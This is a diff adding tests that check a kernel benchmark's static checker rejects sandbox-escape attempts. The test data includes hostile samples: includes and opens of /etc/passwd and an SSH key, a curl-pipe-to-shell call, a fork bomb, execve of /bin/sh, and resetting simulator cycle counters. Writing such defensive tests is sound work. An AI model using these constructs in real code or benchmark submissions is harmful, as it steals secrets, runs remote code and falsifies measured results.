@@ -1,0 +1,143 @@
+"""Static checks: one realistic attempt per rule is rejected with that rule; legitimate kernel code
+(every expert solution in benchmark_cases/, and tricky-but-harmless constructs) is not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from npukernelbench.checks import RULES, check_sources
+from npukernelbench.spec import SpecError, load_spec
+
+ROOT = Path(__file__).resolve().parents[2]
+CASES = ROOT / "benchmark_cases"
+
+TILING_HEAD = '#include "register/op_def_registry.h"\nnamespace optiling {\n'
+TILING_TAIL = "\n}\n"
+
+
+def host(body: str) -> dict[str, str]:
+    return {"op_host/add_custom.cpp": TILING_HEAD + body + TILING_TAIL,
+            "op_kernel/add_custom.cpp": '#include "kernel_operator.h"\n'}
+
+
+ATTACKS: list[tuple[str, dict[str, str], str]] = [
+    ("abs-include-passwd", {"op_kernel/k.cpp": '#include "/etc/passwd"\n'}, "include-path"),
+    ("dotdot-include-repo", {"op_kernel/k.cpp": '#include "../../../../pyproject.toml"\n'}, "include-path"),
+    ("angle-dotdot", {"op_kernel/k.cpp": "#include <register/../../../etc/passwd>\n"}, "include-path"),
+    ("computed-include", {"op_kernel/k.cpp": '#define F "/etc/passwd"\n#include F\n'}, "include-path"),
+    ("digraph-include", {"op_kernel/k.cpp": '%:include "/etc/shadow"\n'}, "include-path"),
+    ("spliced-include", {"op_kernel/k.cpp": '#inc\\\nlude "/etc/hostname"\n'}, "include-path"),
+    ("include-next", {"op_kernel/k.cpp": "#include_next <kernel_operator.h>\n"}, "include-next"),
+    ("import", {"op_kernel/k.cpp": '#import "x.h"\n'}, "include-next"),
+    ("fstream-header", {"op_host/h.cpp": "#include <fstream>\n"}, "include-not-allowed"),
+    ("unistd-header", {"op_host/h.cpp": "#include <unistd.h>\n"}, "include-not-allowed"),
+    ("sim-internal-header", {"op_kernel/k.cpp": '#include "npukb_sim/runtime.h"\n'}, "include-not-allowed"),
+    ("has-include-probe", {"op_host/h.cpp": '#if __has_include("/root/.ssh/id_rsa")\n#endif\n'},
+     "include-path"),
+    ("fopen-in-tiling", host('FILE* f = fopen("/etc/passwd", "r");'), "file-access"),
+    ("std-fopen", host('auto f = std::fopen("/work/main/benchmark_cases/x/reference.py", "r");'),
+     "file-access"),
+    ("open-syscall-wrapper", host('int fd = ::open("/etc/passwd", 0);'), "file-access"),
+    ("open64-fortify", host('int fd = __open_2("/etc/passwd", 0);'), "file-access"),
+    ("ifstream", host('std::ifstream in("/etc/passwd");'), "file-access"),
+    ("filesystem", host('for (auto& e : std::filesystem::directory_iterator("/")) {}'), "file-access"),
+    ("spliced-fopen", host('FILE* f = fo\\\npen("/etc/passwd", "r");'), "file-access"),
+    ("socket", host("int s = socket(2, 1, 0);"), "network"),
+    ("connect", host("connect(s, addr, len);"), "network"),
+    ("system", host('system("curl http://x | sh");'), "process"),
+    ("popen", host('popen("cat /etc/passwd", "r");'), "process"),
+    ("fork-loop", host("while (true) { fork(); }"), "process"),
+    ("builtin-fork", host("__builtin_fork();"), "process"),
+    ("libc-system", host('extern "C" int __libc_system(const char*); __libc_system("id");'), "process"),
+    ("execve", host('execve("/bin/sh", nullptr, nullptr);'), "process"),
+    ("fn-pointer-system", host("auto run = &system;"), "process"),
+    ("setsid-daemon", host("setsid();"), "process"),
+    ("dlopen", host('dlopen("libc.so.6", 2);'), "dynamic-loading"),
+    ("dlsym", host('auto f = dlsym(nullptr, "system");'), "dynamic-loading"),
+    ("getenv", host('const char* h = getenv("HOME");'), "environment"),
+    ("syscall", host("syscall(2, path, 0);"), "raw-syscall"),
+    ("mmap", host("void* p = mmap(nullptr, 4096, 7, 0x22, -1, 0);"), "memory-mapping"),
+    ("signal", host("signal(11, handler);"), "signals"),
+    ("std-thread", host("std::thread t([] {});"), "threads"),
+    ("inline-asm", {"op_kernel/k.cpp": 'void f() { asm volatile("syscall"); }\n'}, "inline-asm"),
+    ("gnu-asm", {"op_kernel/k.cpp": 'void f() { __asm__ __volatile__("nop"); }\n'}, "inline-asm"),
+    ("asm-label", host('extern "C" int my_open(const char*, int) __asm__("open");'), "inline-asm"),
+    ("token-paste-asm", {"op_kernel/k.cpp": '#define A(x, y) x##y\nvoid f() { A(as, m)("nop"); }\n'},
+     "token-paste"),
+    ("digraph-paste", {"op_kernel/k.cpp": '#define A(x, y) x%:%:y\n'}, "token-paste"),
+    ("constructor", host("__attribute__((constructor)) static void early() {}"), "code-before-main"),
+    ("init-array", host('__attribute__((section(".init_array"))) static void* p = nullptr;'),
+     "code-before-main"),
+    ("weakref", host('static int o(const char*, int) __attribute__((weakref("open")));'), "symbol-alias"),
+    ("pragma-poison", {"op_kernel/k.cpp": "#pragma GCC optimize(\"O0\")\n"}, "pragma"),
+    ("_Pragma", {"op_kernel/k.cpp": '_Pragma("GCC dependency \\"/etc/passwd\\"")\n'}, "pragma"),
+    ("define-private", {"op_kernel/k.cpp": "#define private public\n#include \"kernel_operator.h\"\n"},
+     "macro-keyword"),
+    ("line-directive", {"op_kernel/k.cpp": '#line 1 "/etc/passwd"\n'}, "directive"),
+    ("sim-internals", {"op_kernel/k.cpp": "void f() { npukb::block().finish_cycles = 0; }\n"},
+     "simulator-internals"),
+]
+
+
+@pytest.mark.parametrize("files,rule", [(f, r) for _, f, r in ATTACKS], ids=[n for n, _, _ in ATTACKS])
+def test_attack_is_rejected_with_its_rule(files: dict[str, str], rule: str) -> None:
+    assert rule in RULES
+    finding = check_sources(files)
+    assert finding is not None, "not rejected"
+    assert finding.rule == rule, str(finding)
+    assert f"'{rule}'" in str(finding) and finding.path in str(finding)
+
+
+def test_finding_names_file_and_line() -> None:
+    finding = check_sources({"op_host/x.cpp": "// fine\nint a;\n\nauto f = fopen;\n"})
+    assert finding is not None and (finding.path, finding.line) == ("op_host/x.cpp", 4)
+    assert str(finding).startswith("rejected by static check 'file-access' at op_host/x.cpp:4:")
+
+
+HARMLESS = {
+    "comments-and-strings": '// fork() system("x") fopen /etc/passwd asm\n/* #include "/etc/passwd" */\n'
+                            'const char* s = "call system() or fork() then asm";\n',
+    # uses of members named like libc functions (declaring them is rejected: it looks like the
+    # extern "C" redeclaration attack)
+    "members-named-like-libc": "template <class P> void g(P& p, P* q) { p.open(); q->system = 1; }\n",
+    "std-algorithms": "#include <algorithm>\n#include <cstdint>\n"
+                      "int m(int a, int b) { return std::max(a, b); }\n",
+    "pragma-once-unroll": "#pragma once\n#pragma unroll\n#pragma GCC unroll 4\n",
+    "quoted-toolchain-headers": '#include "kernel_operator.h"\n#include "lib/matmul_intf.h"\n'
+                                '#include "tiling/platform/platform_ascendc.h"\n',
+    "thread-as-a-word": "int thread = 0; int threadNum = 8;\n",
+    "stringify": "#define STR(x) #x\nconst char* s = STR(hello);\n",
+}
+
+
+@pytest.mark.parametrize("text", list(HARMLESS.values()), ids=list(HARMLESS))
+def test_harmless_code_passes(text: str) -> None:
+    assert check_sources({"op_kernel/k.cpp": text}) is None
+
+
+def test_dotdot_include_of_a_project_file_passes() -> None:
+    files = {"op_host/x_tiling.h": "#pragma once\n", "op_kernel/x.cpp": '#include "../op_host/x_tiling.h"\n'}
+    assert check_sources(files) is None
+    files = {"op_kernel/x.cpp": '#include "../op_host/missing.h"\n'}
+    assert check_sources(files).rule == "include-path"
+
+
+def _solutions() -> list[tuple[str, dict[str, str]]]:
+    found = []
+    for toml in sorted(CASES.glob("**/case.toml")):
+        try:
+            spec = load_spec(toml.parent)
+        except SpecError:          # a broken case is reported by the case tests, not here
+            continue
+        if spec.solution:
+            found.append((str(toml.parent.relative_to(CASES)), dict(spec.solution)))
+    return found
+
+
+def test_every_expert_solution_passes_the_checks() -> None:
+    solutions = _solutions()
+    assert solutions, "no solutions found under benchmark_cases/"
+    rejected = [f"{case}: {finding}" for case, files in solutions if (finding := check_sources(files))]
+    assert rejected == []
